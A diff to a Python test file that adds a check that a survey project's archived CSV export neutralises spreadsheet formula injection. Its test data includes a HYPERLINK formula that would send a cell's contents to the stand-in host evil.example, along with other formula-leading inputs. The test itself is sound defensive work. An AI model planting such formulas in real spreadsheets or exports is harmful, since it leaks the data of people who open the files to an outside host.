@@ -14,7 +14,7 @@ from civiclab.plugins.evaluation import RunData, run_evaluators
 from civiclab.plugins.experiment import load_experiment
 from civiclab.records import Metric
 from civiclab.survey.store import SurveyStore
-from evaluators.acceptability import AcceptabilityParams, acceptability
+from evaluators.acceptability import AcceptabilityParams, acceptability, redacted_export
 
 ROOT = Path(__file__).resolve().parents[2]
 DEMO = ROOT / "experiments" / "data" / "survey" / "journey" / "responses.csv"
@@ -183,6 +183,24 @@ def test_archived_export_keeps_every_answer_but_no_personal_data_from_free_text(
         if before[r][c] != after[r][c]
     }
     assert changed and all(column.startswith("FB[") for column in changed)  # only free-text cells
+
+
+# Guards issue 20: the archived copy of an export kept formula cells the admin export neutralises.
+def test_the_archived_export_runs_no_formula_in_a_spreadsheet() -> None:
+    import io
+
+    formulas = ['=HYPERLINK("http://evil.example/?x="&A1;"clic")', "@SUM(A1)", "+1+1", "-2+3", "\tx"]
+    rows = list(csv.reader(io.StringIO(DEMO.read_text(encoding="utf-8-sig"), newline="")))
+    column = next(i for i, name in enumerate(rows[0]) if name.startswith("FB["))
+    for row, formula in zip(rows[1:], formulas, strict=False):
+        row[column] = formula
+    rows[3][rows[0].index("SUS[SQ001]")] = "-2"  # a number stays a number
+    out = io.StringIO(newline="")
+    csv.writer(out, lineterminator="\n").writerows(rows)
+    archived = list(csv.reader(io.StringIO(redacted_export(out.getvalue().encode()).decode(), newline="")))
+    assert [row[column] for row in archived[1:6]] == ["'" + f for f in formulas]
+    assert archived[3][rows[0].index("SUS[SQ001]")] == "-2"
+    assert archived[0] == rows[0] and len(archived) == len(rows)
 
 
 def test_a_re_run_from_stored_inputs_cannot_score_the_survey(journey_spec: Path, tmp_path: Path) -> None:
